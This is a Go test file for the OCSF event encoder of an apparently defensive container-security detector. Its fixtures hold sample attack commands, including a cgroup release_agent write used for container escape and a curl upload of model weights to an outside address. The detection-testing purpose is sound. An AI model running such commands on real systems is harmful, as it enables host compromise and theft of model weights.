package export

import (
	"bytes"
	"encoding/json"
	"errors"
	"flag"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/kestrel-sec/kestrel/internal/event"
)

var update = flag.Bool("update", false, "rewrite golden files in testdata/")

var fixedTime = time.Date(2026, 11, 26, 20, 0, 0, 123456789, time.UTC)

func fixtureProcess() *event.Process {
	return &event.Process{
		PID: 31337, TID: 31337, PPID: 4100, ForkParent: 4100, UID: 0, EUID: 0,
		Comm: "sh", Exe: "/bin/sh", Args: []string{"sh", "-c", "echo /x > /sys/fs/cgroup/release_agent"},
		Cwd: "/", StartTime: fixedTime.Add(-2 * time.Second),
		Ancestors: []event.Ancestor{{PID: 4100, Exe: "/usr/bin/python3.11"}, {PID: 4000, Exe: "/usr/bin/containerd-shim-runc-v2"}, {PID: 1, Exe: "/sbin/init"}},
	}
}

func fixtureContainer() *event.Container {
	return &event.Container{
		ID: ctrA, Runtime: "containerd", PodUID: "0f6a1c2e-5b3d-4e7f-9a10-7c2b3d4e5f60", Pod: "llm-0", Namespace: "inference",
		Name: "vllm", Image: "vllm/vllm-openai:v0.6.3", Labels: map[string]string{"app": "llm", "tier": "gpu"}, GPUs: []string{"GPU-8f2c"},
	}
}

// ocsfFixtures are the golden inputs, one per mapping the encoder has.
func ocsfFixtures() map[string]*event.Event {
	p, c := fixtureProcess(), fixtureContainer()
	open := &event.Event{Kind: event.KindOpen, Time: fixedTime, Seq: 41, Process: p, Container: c,
		File: &event.File{Path: "/sys/fs/cgroup/release_agent", RawPath: "/sys/fs/cgroup/release_agent", PathSource: event.PathAsPassed,
			Flags: event.OWronly | event.OTrunc | event.OCreat, Result: 3, Size: -1}}
	return map[string]*event.Event{
		"finding_esc001": {Kind: event.KindFinding, Time: fixedTime, Seq: 42, Process: p, Container: c,
			Finding: &event.Finding{Rule: "ESC-001", Title: "cgroup release_agent written from a container", Severity: event.SevCritical,
				MITRE:       []string{"T1611", "AML.T0105"},
				Description: "A container process wrote a cgroup v1 release_agent: the kernel runs it as root on the host.",
				Explanation: "sh (pid 31337) in container vllm wrote /sys/fs/cgroup/release_agent",
				Count:       1, Evidence: []*event.Event{open}, Attrs: map[string]string{"path": "/sys/fs/cgroup/release_agent"}}},
		"finding_exf001_host": {Kind: event.KindFinding, Time: fixedTime, Seq: 43,
			Process: &event.Process{PID: 900, PPID: 1, Comm: "curl", Exe: "/usr/bin/curl", Args: []string{"curl", "-T", "/models/llama/model.safetensors", "http://10.9.9.9/"}},
			Finding: &event.Finding{Rule: "EXF-001", Title: "Model weights read by a non-owner, then sent out", Severity: event.SevHigh,
				MITRE: []string{"T1041", "T1059.004"}, Count: 3,
				Evidence: []*event.Event{{Kind: event.KindEgress, Time: fixedTime, Seq: 40, Net: &event.Net{Protocol: "tcp",
					SAddr: netip.MustParseAddr("10.0.0.5"), SPort: 40000, DAddr: netip.MustParseAddr("10.9.9.9"), DPort: 80, Class: event.ClassExternal, BytesSent: 1 << 30}}}}},
		"process_exec": {Kind: event.KindExec, Time: fixedTime, Seq: 7, Process: p, Container: c},
		"process_exit": {Kind: event.KindExit, Time: fixedTime, Seq: 8, Process: p, Exit: &event.Exit{Code: 0, Signal: 9}},
		"file_open":    open,
		"file_rename": {Kind: event.KindSyscall, Time: fixedTime, Seq: 9, Process: p,
			Sys: &event.Syscall{Name: "rename", Path: "/models/llama/model.safetensors", Path2: "/tmp/.x", Ret: 0}},
		"process_ptrace": {Kind: event.KindSyscall, Time: fixedTime, Seq: 10, Process: p, Container: c,
			Sys: &event.Syscall{Name: "ptrace", Target: 4100, Flags: 16, Ret: -1}},
		"network_connect": {Kind: event.KindConnect, Time: fixedTime, Seq: 11, Process: p, Container: c,
			Net: &event.Net{Protocol: "tcp", SAddr: netip.MustParseAddr("10.244.1.7"), SPort: 51234, DAddr: netip.MustParseAddr("169.254.169.254"),
				DPort: 80, Class: event.ClassMetadata, Cookie: 77, Fd: 5}},
		"network_egress_v6": {Kind: event.KindEgress, Time: fixedTime, Seq: 12, Process: p,
			Net: &event.Net{Protocol: "tcp", SAddr: netip.MustParseAddr("2001:db8::5"), SPort: 40000, DAddr: netip.MustParseAddr("2001:db8::9"),
				DPort: 443, Class: event.ClassExternal, BytesSent: 123456789, Closed: true}},
		"network_unix": {Kind: event.KindConnect, Time: fixedTime, Seq: 13, Process: p, Container: c,
			Net: &event.Net{Protocol: "unix", UnixPath: "/run/containerd/containerd.sock", Class: event.ClassUnix}},
	}
}

func testEncoder() *OCSFEncoder {
	return NewOCSFEncoder(&OCSFOptions{Hostname: "gpu-node-7", ProductVersion: "0.1.0", InstanceID: "b9c597a3"})
}

// Must show 4: the OCSF golden files.
func TestOCSFGolden(t *testing.T) {
	enc := testEncoder()
	for name, ev := range ocsfFixtures() {
		t.Run(name, func(t *testing.T) {
			b, err := enc.Encode(ev)
			if err != nil {
				t.Fatalf("Encode: %v", err)
			}
			var pretty bytes.Buffer
			if err := json.Indent(&pretty, b, "", "  "); err != nil {
				t.Fatal(err)
			}
			pretty.WriteByte('\n')
			golden := filepath.Join("testdata", "ocsf", name+".ocsf.json")
			if *update {
				if err := os.MkdirAll(filepath.Dir(golden), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(golden, pretty.Bytes(), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatalf("read golden (run with -update to create): %v", err)
			}
			if !bytes.Equal(pretty.Bytes(), want) {
				t.Errorf("%s differs from the golden file; got:\n%s", golden, pretty.Bytes())
			}
		})
	}
}

// requiredByClass lists the attributes OCSF 1.8.0 requires for each class
// (base_event + category + class), and the objects' own required attributes
// (research/ecosystem.md §1.1). Paths use dots; "a|b" means at least one.
var requiredByClass = map[int][]string{
	OCSFProcessActivity:  {"actor", "device", "process"},
	OCSFFileActivity:     {"actor", "device", "file"},
	OCSFNetworkActivity:  {},
	OCSFDetectionFinding: {"finding_info"},
}

var baseRequired = []string{"activity_id", "category_uid", "class_uid", "metadata", "severity_id", "time", "type_uid",
	"metadata.product", "metadata.version", "metadata.product.name|metadata.product.uid"}

// objectRequired applies whenever the object is present.
var objectRequired = map[string][]string{
	"device":                       {"type_id"},
	"device.os":                    {"name", "type_id"},
	"file":                         {"name", "type_id"},
	"file_result":                  {"name", "type_id"},
	"process":                      {"pid|uid|cpid"},
	"actor":                        {"process|user|invoked_by|session|app_name|authorizations|idp"},
	"actor.process":                {"pid|uid|cpid"},
	"finding_info":                 {"uid"},
	"finding_info.analytic":        {"type_id"},
	"connection_info":              {"direction_id"},
	"src_endpoint":                 {"ip|uid|name|hostname|svc_name|instance_uid|interface_uid|interface_name|domain"},
	"dst_endpoint":                 {"ip|uid|name|hostname|svc_name|instance_uid|interface_uid|interface_name|domain"},
	"container":                    {"uid|name"},
	"container.image":              {"uid"},
	"process.parent_process":       {"pid|uid|cpid"},
	"actor.process.parent_process": {"pid|uid|cpid"},
}

func lookup(m map[string]any, path string) (any, bool) {
	var cur any = m
	for _, k := range strings.Split(path, ".") {
		mm, ok := cur.(map[string]any)
		if !ok {
			return nil, false
		}
		if cur, ok = mm[k]; !ok {
			return nil, false
		}
	}
	return cur, true
}

func hasAny(m map[string]any, alts string) bool {
	for _, p := range strings.Split(alts, "|") {
		if _, ok := lookup(m, p); ok {
			return true
		}
	}
	return false
}

// Every fixture carries every attribute its class requires, with the right
// JSON types: time in milliseconds as a number, ids as numbers.
func TestOCSFRequiredAttributes(t *testing.T) {
	enc := testEncoder()
	seen := map[int]bool{}
	for name, ev := range ocsfFixtures() {
		t.Run(name, func(t *testing.T) {
			b, err := enc.Encode(ev)
			if err != nil {
				t.Fatal(err)
			}
			dec := json.NewDecoder(bytes.NewReader(b))
			dec.UseNumber()
			var m map[string]any
			if err := dec.Decode(&m); err != nil {
				t.Fatal(err)
			}
			cls, err := m["class_uid"].(json.Number).Int64()
			if err != nil {
				t.Fatalf("class_uid: %v", err)
			}
			if int(cls) != OCSFClass(ev) {
				t.Errorf("class_uid %d; OCSFClass says %d", cls, OCSFClass(ev))
			}
			seen[int(cls)] = true
			req, ok := requiredByClass[int(cls)]
			if !ok {
				t.Fatalf("unexpected class %d", cls)
			}
			for _, a := range append(append([]string{}, baseRequired...), req...) {
				if !hasAny(m, a) {
					t.Errorf("class %d: required attribute %s missing", cls, a)
				}
			}
			for obj, attrs := range objectRequired {
				if _, ok := lookup(m, obj); !ok {
					continue
				}
				for _, a := range attrs {
					alts := []string{}
					for _, x := range strings.Split(a, "|") {
						alts = append(alts, obj+"."+x)
					}
					if !hasAny(m, strings.Join(alts, "|")) {
						t.Errorf("class %d: %s requires %s", cls, obj, a)
					}
				}
			}
			// Numbers are numbers.
			for _, p := range []string{"time", "activity_id", "category_uid", "class_uid", "type_uid", "severity_id", "device.type_id"} {
				v, _ := lookup(m, p)
				if _, ok := v.(json.Number); !ok {
					t.Errorf("%s is %T; want a JSON number", p, v)
				}
			}
			tm, _ := m["time"].(json.Number).Int64()
			if tm != ev.Time.UnixMilli() {
				t.Errorf("time %d; want %d (milliseconds)", tm, ev.Time.UnixMilli())
			}
			cat, _ := m["category_uid"].(json.Number).Int64()
			act, _ := m["activity_id"].(json.Number).Int64()
			typ, _ := m["type_uid"].(json.Number).Int64()
			if cat != cls/1000 || typ != cls*100+act {
				t.Errorf("category_uid %d, type_uid %d do not follow class_uid %d, activity_id %d", cat, typ, cls, act)
			}
			if v, _ := lookup(m, "metadata.version"); v != OCSFSchemaVersion {
				t.Errorf("metadata.version %v", v)
			}
			if v, _ := lookup(m, "device.hostname"); v != "gpu-node-7" {
				t.Errorf("device.hostname %v", v)
			}
			if p, ok := lookup(m, "actor.process.pid"); ok {
				if _, isNum := p.(json.Number); !isNum {
					t.Errorf("actor.process.pid is %T; want a number", p)
				}
			}
		})
	}
	for cls := range requiredByClass {
		if !seen[cls] {
			t.Errorf("no fixture covers class %d", cls)
		}
	}
}

func TestOCSFFindingDetails(t *testing.T) {
	b, err := testEncoder().Encode(ocsfFixtures()["finding_esc001"])
	if err != nil {
		t.Fatal(err)
	}
	var m map[string]any
	json.Unmarshal(b, &m)
	checks := map[string]any{
		"severity_id":                      float64(5),
		"is_alert":                         true,
		"finding_info.uid":                 "b9c597a3-42",
		"finding_info.analytic.uid":        "ESC-001",
		"container.uid":                    ctrA,
		"unmapped.k8s.pod":                 "llm-0",
		"actor.process.pid":                float64(31337),
		"actor.process.parent_process.pid": float64(4100),
		"actor.process.parent_process.parent_process.file.path": "/usr/bin/containerd-shim-runc-v2",
	}
	for p, want := range checks {
		if got, _ := lookup(m, p); got != want {
			t.Errorf("%s = %v; want %v", p, got, want)
		}
	}
	attacks, _ := lookup(m, "finding_info.attacks")
	list, _ := attacks.([]any)
	if len(list) != 2 {
		t.Fatalf("attacks %v; want T1611 and AML.T0105", attacks)
	}
	first := list[0].(map[string]any)
	if first["technique"].(map[string]any)["uid"] != "T1611" || first["tactic"].(map[string]any)["uid"] != "TA0004" {
		t.Errorf("attacks[0] = %v", first)
	}
	if top, _ := m["attacks"].([]any); len(top) != len(list) {
		t.Errorf("top-level attacks (security_control profile) %v; want the same %d as finding_info.attacks", m["attacks"], len(list))
	}
	ev, _ := lookup(m, "evidences")
	if evs, _ := ev.([]any); len(evs) != 1 || evs[0].(map[string]any)["file"].(map[string]any)["path"] != "/sys/fs/cgroup/release_agent" {
		t.Errorf("evidences = %v", ev)
	}
}

func TestOCSFUnmappedKinds(t *testing.T) {
	enc := testEncoder()
	for _, ev := range []*event.Event{
		{Kind: event.KindGPU, Time: fixedTime, GPU: &event.GPU{UUID: "GPU-1"}},
		{Kind: event.KindLost, Time: fixedTime, Lost: &event.Lost{Source: "kernel_ringbuf", Count: 3}},
		{Kind: event.KindStatus, Time: fixedTime, Status: &event.Status{Ready: true}},
	} {
		if _, err := enc.Encode(ev); !errors.Is(err, ErrNoOCSFClass) {
			t.Errorf("%s: got %v; want ErrNoOCSFClass", ev.Kind, err)
		}
	}
	// Malformed events get an error, not a panic.
	for _, ev := range []*event.Event{
		nil,
		{Kind: event.KindFinding},
		{Kind: event.KindOpen},
		{Kind: event.KindConnect},
		{Kind: event.KindSyscall},
		{Kind: event.KindExec},
	} {
		if _, err := enc.Encode(ev); err == nil {
			t.Errorf("%v: got no error for a malformed event", ev)
		}
	}
}

func BenchmarkOCSFEncodeFinding(b *testing.B) {
	enc := testEncoder()
	ev := ocsfFixtures()["finding_esc001"]
	b.ReportAllocs()
	for b.Loop() {
		if _, err := enc.Encode(ev); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkOCSFEncodeOpen(b *testing.B) {
	enc := testEncoder()
	ev := ocsfFixtures()["file_open"]
	b.ReportAllocs()
	for b.Loop() {
		if _, err := enc.Encode(ev); err != nil {
			b.Fatal(err)
		}
	}
}
